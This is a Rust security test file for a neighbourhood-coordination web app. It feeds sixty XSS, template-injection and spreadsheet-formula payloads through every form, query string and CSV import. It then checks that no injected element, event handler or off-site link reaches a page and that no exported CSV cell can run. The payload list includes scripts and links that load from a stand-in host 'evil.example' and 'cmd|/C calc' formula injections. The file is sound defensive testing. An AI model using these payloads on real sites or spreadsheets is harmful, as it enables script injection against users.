//! Sixty ways to smuggle a script, in every field that somebody can fill, read back on every page, table and map: nothing of it
//! becomes part of a page, and no cell of a table is run by a spreadsheet.

use crate::test_app::{Answer, Browser, TestApp};
use kiez_domain::need::NewNeed;
use kiez_domain::offer::NewOffer;
use std::collections::BTreeSet;

/// What people try: marks, attributes, half marks, other spellings, styles, templates, formulas.
const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input type=submit>",
    "<button formaction=//evil.example>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" style=\"background:url(//evil.example)",
    "` onerror=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{% include x %}${7*7}#{7*7}",
    "=cmd|' /C calc'!A0",
    "+1+HYPERLINK(\"//evil.example\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// The marks of a page: each element with its attributes, read as a browser reads them.
fn marks(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let signs: Vec<char> = page.chars().collect();
    let (mut at, mut found) = (0, Vec::new());
    while at < signs.len() {
        if signs[at] == '<' && signs.get(at + 1).is_some_and(char::is_ascii_alphabetic) {
            let (mark, end) = mark(&signs, at + 1);
            found.push(mark);
            at = end;
        } else {
            at += 1;
        }
    }
    found
}

fn mark(signs: &[char], start: usize) -> ((String, Vec<(String, String)>), usize) {
    let mut at = start;
    let word = |at: &mut usize, ends: &[char]| {
        let begin = *at;
        while *at < signs.len() && !ends.contains(&signs[*at]) && !signs[*at].is_whitespace() {
            *at += 1;
        }
        signs[begin..*at].iter().collect::<String>().to_lowercase()
    };
    let name = word(&mut at, &['>', '/']);
    let mut attributes = Vec::new();
    while at < signs.len() && signs[at] != '>' {
        if signs[at].is_whitespace() || signs[at] == '/' {
            at += 1;
            continue;
        }
        let attribute = word(&mut at, &['=', '>', '/']);
        let mut value = String::new();
        if signs.get(at) == Some(&'=') {
            at += 1;
            match signs.get(at) {
                Some(quote @ ('"' | '\'')) => {
                    let end = (at + 1..signs.len()).find(|end| signs[*end] == *quote).unwrap_or(signs.len());
                    value = signs[at + 1..end].iter().collect();
                    at = (end + 1).min(signs.len());
                }
                _ => value = word(&mut at, &['>']),
            }
        }
        if attribute.is_empty() {
            at += 1;
        } else {
            attributes.push((attribute, value));
        }
    }
    ((name, attributes), at)
}

/// What of a page is more than a page of ours has.
fn smuggled(path: &str, page: &Answer, elements: &BTreeSet<String>) -> Vec<String> {
    let mut faults = Vec::new();
    for (name, attributes) in marks(&page.body) {
        if !elements.contains(&name) {
            faults.push(format!("{path}: <{name}>"));
        }
        for (attribute, value) in attributes {
            let target =
                ["href", "src", "action", "formaction", "data", "xlink:href"].contains(&attribute.as_str());
            let is_ours = value.is_empty()
                || value.starts_with(['/', '#', '?'])
                || value.starts_with("https://www.openstreetmap.org/")
                || value.starts_with("http://localhost:8080")
                || value.starts_with("mailto:")
                || value.starts_with("tel:")
                || value.starts_with("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'");
            let leads_away = value.starts_with("//") || value.starts_with("/\\");
            if attribute.starts_with("on") || attribute == "style" || attribute == "srcdoc" {
                faults.push(format!("{path}: {attribute} of <{name}>"));
            }
            if target && (!is_ours || leads_away) {
                faults.push(format!("{path}: <{name} {attribute}={value}>"));
            }
        }
    }
    faults
}

/// Pages that show what somebody wrote.
fn addresses(app: &TestApp) -> Vec<String> {
    let world = &app.world;
    let mut all: Vec<String> = [
        "",
        "/cards",
        "/needs",
        "/offers",
        "/ideas",
        "/actors",
        "/map",
        "/moves",
        "/walk?minutes=120",
        "/rings",
        "/members",
        "/mail",
        "/project",
        "/imports",
        "/processing",
        "/differences",
        "/needs/new",
        "/offers/new",
        "/actors/new",
    ]
    .iter()
    .map(|rest| format!("/w/graefekiez{rest}"))
    .collect();
    for (noun, id) in [
        ("needs", world.wood_wanted.to_string()),
        ("offers", world.offcuts.to_string()),
        ("actors", world.joiner.to_string()),
    ] {
        all.extend(["", "/edit"].iter().map(|rest| format!("/w/graefekiez/{noun}/{id}{rest}")));
    }
    all.push(format!("/w/graefekiez/needs/{}/why-not", world.wood_wanted));
    all.push(format!("/p/graefekiez/actors/{}", world.joiner));
    all.extend(
        ["/actors", "/needs", "/offers", "/map", ""].iter().map(|rest| format!("/p/graefekiez{rest}")),
    );
    all.extend(["/", "/account", "/stil", "/sign-in", "/w"].map(str::to_owned));
    all
}

/// The elements of our own pages, before anybody has written anything.
async fn own_elements(browser: &Browser<'_>, paths: &[String]) -> BTreeSet<String> {
    let mut elements = BTreeSet::new();
    for path in paths {
        elements.extend(marks(&browser.get(path).await.body).into_iter().map(|(name, _)| name));
    }
    // Where a list is empty there is no table, and where nothing is wrong no sentence.
    elements.extend(
        ["table", "thead", "tbody", "tr", "th", "td", "ol", "dl", "dt", "dd", "b"].map(str::to_owned),
    );
    elements
}

/// What came back, with where it was sent.
type Answers = Vec<(String, Answer)>;

/// Sends a form and opens what it leads to.
async fn send(mira: &Browser<'_>, path: String, fields: &[(&str, &str)]) -> Answers {
    let answer = mira.post(&path, fields).await;
    assert!(answer.status < 500, "{path} with {fields:?}: {}", answer.status);
    let led = answer.header("location").to_owned();
    let mut answers = vec![(path, answer)];
    if led.starts_with('/') {
        let page = mira.get(led.split('#').next().unwrap_or_default()).await;
        answers.push((led, page));
    }
    answers
}

fn all<'a>(names: &[&'a str], payload: &'a str) -> Vec<(&'a str, &'a str)> {
    names.iter().map(|name| (*name, payload)).collect()
}

const BASE: &str = "/w/graefekiez";

/// Fills every form of the workspace with one payload.
async fn fill(app: &TestApp, mira: &Browser<'_>, (turn, payload): (usize, &str)) -> Answers {
    let mut answers = cards(mira, (turn, payload)).await;
    answers.extend(actors(app, mira, (turn, payload)).await);
    answers.extend(project_and_people(app, mira, payload).await);
    answers.extend(files(mira, payload).await);
    answers
}

async fn cards(mira: &Browser<'_>, (turn, payload): (usize, &str)) -> Answers {
    let key = format!("key-{turn}");
    let mut answers = Vec::new();
    for noun in ["needs", "offers"] {
        let card = [("text", payload), ("said_by", payload), ("per", "month"), ("key", &key)];
        answers.extend(send(mira, format!("{BASE}/{noun}"), &card).await);
        let wrong = all(
            &[
                "units",
                "radius_m",
                "capacity",
                "per",
                "effort_min",
                "times",
                "languages",
                "kinds",
                "lat",
                "actor",
            ],
            payload,
        );
        answers.extend(send(mira, format!("{BASE}/{noun}"), &[&card[..2], &wrong].concat()).await);
    }
    for what in ["need", "offer", "idea", payload] {
        let card = [("what", what), ("text", payload), ("said_by", payload), ("key", payload)];
        answers.extend(send(mira, format!("{BASE}/cards"), &card).await);
    }
    answers
}

async fn actors(app: &TestApp, mira: &Browser<'_>, (turn, payload): (usize, &str)) -> Answers {
    let (key, joiner) = (format!("key-{turn}"), app.world.joiner);
    let actor = all(&["name", "street", "house_number", "city", "carrier", "note", "opening_hours"], payload);
    let path = format!("{BASE}/actors");
    let mut answers =
        send(mira, path.clone(), &[&actor[..], &[("side", "business"), ("key", &key)]].concat()).await;
    let wrong = all(&["branch", "postcode", "lat", "lon", "languages", "side"], payload);
    answers.extend(send(mira, path, &[&actor[..], &wrong].concat()).await);
    let version = mira.get(&format!("{BASE}/actors/{joiner}/edit")).await.field("version");
    let saved = [&actor[..], &[("side", "business"), ("version", &version)]].concat();
    answers.extend(send(mira, format!("{BASE}/actors/{joiner}"), &saved).await);
    let answer = all(&["said", "kind", "on", "again"], payload);
    answers.extend(send(mira, format!("{BASE}/actors/{joiner}/answers"), &answer).await);
    let consent = all(&["act", "heard", "who_said", "note", "said_on", "language"], payload);
    answers.extend(send(mira, format!("{BASE}/actors/{joiner}/consents"), &consent).await);
    let verdict = all(&["decision", "giver", "until", "reason"], payload);
    let need = app.world.wood_wanted;
    answers.extend(send(mira, format!("{BASE}/needs/{need}/verdicts"), &verdict).await);
    answers
}

async fn project_and_people(app: &TestApp, mira: &Browser<'_>, payload: &str) -> Answers {
    let path = format!("{BASE}/project");
    let version = mira.get(&path).await.field("version");
    let sheet = ["name", "label", "area", "carrier", "client", "funding", "aims", "team", "partners"];
    let sheet = [&all(&sheet, payload)[..], &[("version", &version)]].concat();
    let mut answers = send(mira, path.clone(), &sheet).await;
    answers.extend(send(mira, path, &all(&["from", "to", "colour"], payload)).await);
    let kita = app.world.kita.to_string();
    let invited = [("name", payload), ("role", "institution"), ("actor", &kita), ("language", payload)];
    let members = format!("{BASE}/members");
    answers.extend(send(mira, members.clone(), &invited).await);
    answers.extend(send(mira, members, &all(&["name", "role", "email"], payload)).await);
    for path in ["/sign-in", "/sign-in/recovery", "/sign-in/mail"] {
        let typed = all(&["email", "password", "code"], payload);
        answers.extend(send(mira, path.to_owned(), &typed).await);
    }
    answers
}

async fn files(mira: &Browser<'_>, payload: &str) -> Answers {
    let table = format!("name,street,city\n\"{0}\",\"{0}\",\"{0}\"\n", payload.replace('"', "\"\""));
    let name = payload.replace(['"', '\r', '\n'], "'");
    let path = format!("{BASE}/imports");
    let sent = mira.upload(&path, "actors", (&name, table.as_bytes())).await;
    let led = sent.header("location").to_owned();
    let mut answers = vec![(path, sent)];
    if !led.is_empty() {
        answers.push((led.clone(), mira.get(&led).await));
        let taken = mira.post(&led, &[("choice", "take")]).await;
        answers.push((led, taken));
    }
    answers
}

#[tokio::test]
async fn nothing_that_somebody_wrote_becomes_part_of_a_page() {
    let app = TestApp::new().await;
    app.publish(app.world.joiner).await;
    app.publish_card::<NewNeed>(app.world.wood_wanted).await;
    app.publish_card::<NewOffer>(app.world.offcuts).await;
    let mira = app.coordinator().await;
    let paths = addresses(&app);
    let elements = own_elements(&mira, &paths).await;
    assert!(
        elements.contains("form") && !elements.contains("iframe") && !elements.contains("style"),
        "{elements:?}"
    );
    let mut faults = Vec::new();
    for (turn, payload) in PAYLOADS.into_iter().enumerate() {
        for (path, answer) in fill(&app, &mira, (turn, payload)).await {
            faults.extend(smuggled(&path, &answer, &elements));
        }
        let query: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for path in
            ["/w/graefekiez/needs", "/w/graefekiez/actors", "/p/graefekiez/actors", "/p/graefekiez/map"]
        {
            let path = format!("{path}?q={query}&side={query}&state={query}&branch={query}&lang={query}");
            faults.extend(smuggled(&path, &mira.get(&path).await, &elements));
        }
        // The page that shows the last one most often: in the name of an actor that everybody sees.
        if turn % 10 == 9 {
            for path in &paths {
                faults.extend(smuggled(path, &mira.get(path).await, &elements));
            }
        }
    }
    for path in &paths {
        faults.extend(smuggled(path, &mira.get(path).await, &elements));
        faults.extend(smuggled(path, &app.visitor().get(path).await, &elements));
    }
    faults.sort();
    faults.dedup();
    assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), faults.join("\n"));
}

#[tokio::test]
async fn tables_and_maps_carry_the_words_and_run_none_of_them() {
    let app = TestApp::new().await;
    app.publish(app.world.joiner).await;
    let mira = app.coordinator().await;
    for payload in PAYLOADS {
        let path = format!("/w/graefekiez/actors/{}", app.world.joiner);
        let version = mira.get(&format!("{path}/edit")).await.field("version");
        let fields = [("name", payload), ("street", payload), ("side", "business"), ("version", &version)];
        assert_eq!(mira.post(&path, &fields).await.status, 303, "{payload:?}");
        let table = app.visitor().get("/p/graefekiez/actors.csv").await;
        assert_eq!(table.header("content-type"), "text/csv; charset=utf-8");
        for cell in cells(&table.body) {
            let is_number = cell.parse::<f64>().is_ok();
            let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(is_number || !runs, "{payload:?} is run: {cell}");
        }
        for path in ["/p/graefekiez/actors.geojson", "/p/graefekiez/map.geojson", "/w/graefekiez/map.geojson"]
        {
            let map = mira.get(path).await;
            assert!(map.header("content-type").contains("json"), "{path}: {}", map.header("content-type"));
            let read: serde_json::Value = serde_json::from_str(&map.body).expect("JSON whatever was written");
            assert_eq!(read["type"], "FeatureCollection", "{path}");
        }
    }
}

/// The cells of a table, without its quotation marks.
fn cells(table: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut signs = table.chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => {
                cell.push('"');
                signs.next();
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}

#[test]
fn the_reader_of_marks_sees_what_is_smuggled() {
    let page = "<p title=\"a > b\">x</p><img src=x onerror=alert(1)><a href='javascript:x'>";
    let found = marks(page);
    assert_eq!(found.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(), ["p", "img", "a"]);
    assert_eq!(found[1].1, [("src".into(), "x".into()), ("onerror".into(), "alert(1)".into())]);
    assert_eq!(found[2].1, [("href".into(), "javascript:x".into())]);
}
